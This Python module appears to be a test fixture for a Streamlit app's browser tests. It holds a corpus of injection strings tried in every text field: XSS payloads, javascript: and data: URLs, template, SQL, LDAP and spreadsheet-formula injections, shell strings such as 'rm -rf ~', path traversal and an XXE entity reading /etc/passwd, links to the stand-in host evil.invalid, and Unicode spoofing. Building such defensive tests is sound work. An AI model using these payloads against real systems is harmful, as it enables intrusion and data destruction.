"""Words that would do harm if a page ever took them for more than words, and addresses that are none.

Each string is tried in every field of `tests/browser/injection_fields.py`. What would run calls `alert`, which the test
watches; what would load asks for a host that does not exist.
"""

from collections.abc import Sequence

OUTSIDE = "evil.invalid"
"""The host that a page would ask if it loaded anything; it has no address."""

CORPUS: dict[str, str] = {
    # markup that runs
    "script": "<script>alert(1)</script>",
    "script by src": f"<script src=//{OUTSIDE}/x.js></script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, upper case and padded": "<SCRIPT\t>alert(1)</SCRIPT >",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image with a slash for a space": "<img/src/onerror=alert(1)>",
    "svg with a handler": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "svg from outside": f'<svg><use href="//{OUTSIDE}/x.svg#x"></use></svg>',
    "mathml": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "mathml style": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "body with a handler": "<body onload=alert(1)>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video": '<video><source onerror="alert(1)"></video>',
    "audio": f"<audio src=//{OUTSIDE}/x.mp3 autoplay onerror=alert(1)></audio>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "iframe": f'<iframe src="//{OUTSIDE}/"></iframe>',
    "iframe with a document": '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    "object": f'<object data="//{OUTSIDE}/x"></object>',
    "embed": f'<embed src="//{OUTSIDE}/x">',
    "form": f'<form action="//{OUTSIDE}/"><button>Save</button></form>',
    "base": f'<base href="//{OUTSIDE}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=//{OUTSIDE}/">',
    "link element": f'<link rel=stylesheet href="//{OUTSIDE}/x.css">',
    "style element": "<style>*{display:none!important}</style>",
    "style that loads": f"<style>@import '//{OUTSIDE}/x.css';</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url(//{OUTSIDE}/x)">over everything</p>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "plain text": "<plaintext>",
    "comment": "<!--<img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml-stylesheet href='//evil.invalid/x.xsl'?>",
    # ways out of an attribute, an element, a script, a style
    "out of a double quote": '" onmouseover="alert(1)" x="',
    "out of a single quote": "' onmouseover='alert(1)' x='",
    "out of a backtick": "` onmouseover=alert(1) x=`",
    "out of a tag": "\"'></p></div></td></table></section><img src=x onerror=alert(1)>",
    "out of a text area": "</textarea></title></style><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)//",
    "out of JSON": '\\"};alert(1);//',
    "out of a Vega expression": "'];alert(1)//\\'+alert(1)+\\'",
    "out of an SVG text": "</text></svg><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "entities without an end": "&ltscript&gtalert(1) &#x3Cb&#x3E",
    # Markdown and what Streamlit adds to it
    "bold and code": "**bold** _em_ `code` ~~gone~~ ***both***",
    "heading": "\n# A heading\n## Another",
    "list": "\n- one\n- two\n1. three",
    "quote and rule": "\n> quoted\n\n---\n",
    "fence": "\n```js\nalert(1)\n```\n",
    "table": "\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "link to a script": "[press](javascript:alert(1))",
    "link in angle brackets": "<javascript:alert(1)>",
    "link by reference": "[press][1]\n\n[1]: javascript:alert(1)",
    "link that loads": f"[press](//{OUTSIDE}/ 'title')",
    "picture": f"![x](https://{OUTSIDE}/x.png)",
    "picture of data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "automatic link": f"https://{OUTSIDE}/auto www.{OUTSIDE} mail@{OUTSIDE}",
    "escaped mark": "\\*not\\* \\<b\\> \\[x\\](y)",
    "formula": "$\\href{javascript:alert(1)}{x}$ $$\\frac{1}{0}$$",
    "formula with a command": "\\(\\url{javascript:alert(1)}\\) \\[x\\] $`a`$",
    "emoji name": ":smile: :heart: :+1:",
    "icon name": ":material/delete: :streamlit:",
    "coloured words": ":red[alarm] :blue-background[x] :rainbow[y] :small[z] :badge[w]",
    "footnote and task": "[^1] - [x] done ==marked== H~2~O x^2^",
    # addresses as words
    "script address": "javascript:alert(1)",
    "script address in disguise": "jAvAsCrIpT\t:alert(1) java\nscript:alert(1) &#106;avascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "other addresses": "vbscript:msgbox(1) file:///etc/passwd blob:x about:blank",
    # other languages that a text might pass through
    "template of Jinja": "{{7*7}} {% import os %} {{config}} ${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "template of Angular": "{{constructor.constructor('alert(1)')()}}",
    "format of Python": "{0.__class__.__mro__} %s %n %(x)s {view} {{{",
    "formula of a spreadsheet": '=HYPERLINK("http://evil.invalid/","x")',
    "command of a spreadsheet": "=cmd|'/C calc'!A0",
    "sums of a spreadsheet": "+1+1 -1-1 @SUM(1) |x\t=1+1",
    "SQL": "'; DROP TABLE ledger; -- \" OR 1=1 /* */",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat && true > x",
    "path": "../../../../etc/passwd ..\\..\\windows CON.txt /dev/null",
    "log line": "x\n2026-01-01 ERROR somebody logged this",
    "LDAP, XPath, NoSQL": "*)(uid=*))(|(uid=* ' or '1'='1 {\"$gt\": \"\"}",
    "XML entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    # what letters can do
    "turned around": "safe \u202egnp.exe\u202c and \u2067back\u2069",
    "invisible letters": "pay\u200bload \u2060joined\u2060 \ufeffmarked \u00adsoft",
    "letters that look alike": "\u0430dmin \u2215 \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "many marks": "Z" + "\u0300\u0301\u0302\u0303" * 12 + "algo",
    "long word": "W" * 400,
    "emoji joined": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇺🇳 ✌🏿",
    "line and paragraph": "one\u2028two\u2029three",
    "other scripts": "नमस्ते שלום مرحبا 你好 ﷽",
    "nothing to see": "\u3164\u115f\u2800",
    "normal form": "e\u0301 é ﬁ Å K ℌ",
    "byte order": "\ufffe\uffff\ufdd0",
}
"""Name -> a string that every free-text field of the record can hold."""

LINKS: tuple[str, ...] = (
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/`onmouseover=alert(1)`",
    "https://example.org/?q=javascript:alert(1)#x",
    "https://example.org/{{7*7}}${7*7}",
    "https://example.org/)[x](javascript:alert(1))",
    "https://example.org@evil.invalid/",
    "http://javascript:alert(1)@example.org/",
    "https://example.org/\u202egnp.exe",
    "HTTPS://EXAMPLE.ORG/:smile:/**x**/_y_",
    "https://[::1]:1/x",
    "https://example.org/&quot;&#x3E;&lt;svg",
    "https://*.example.org/[x](y)",
)
"""Addresses that a record may hold; none becomes a link that leads elsewhere than it says."""

NOT_LINKS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "//evil.invalid/x",
    "https:javascript:alert(1)",
    "http://x y",
    'https://x"onmouseover=alert(1)',
    "https://x<script>",
    "ftp://example.org/",
    "https://",
    "mailto:x@example.org",
    "https://example.org\\@evil.invalid",
)
"""Addresses that no record may hold."""

IDS: tuple[str, ...] = (
    "x:smile:",
    "a__b__c",
    "x:+1:",
    "E1-_-_",
    "a.b:c@d+e",
    "javascript:alert",
    "x_y_z_",
    "A:material",
)
"""Ids, which allow few letters; still none is Markdown, an emoji or an address."""


def one_line(text: str) -> str:
    """Return a string for a field of one line."""
    return " ".join(text.split())


def plain(index: int, length: int) -> str:
    """Return harmless words as long as a string, in its place: what the structure of a page is compared with."""
    return f"{index:03d} {'plain words ' * (length // 12 + 1)}"[:length].rstrip().ljust(length, "s")


def joined(texts: Sequence[str], *, longest: int) -> list[str]:
    """Return texts set one after the other in as few as fit, for fields of which there are few."""
    found = [""]
    for text in texts:
        if found[-1] and len(found[-1]) + len(text) + 3 > longest:
            found.append("")
        found[-1] += f"{' ¦ ' if found[-1] else ''}{text}"
    return found
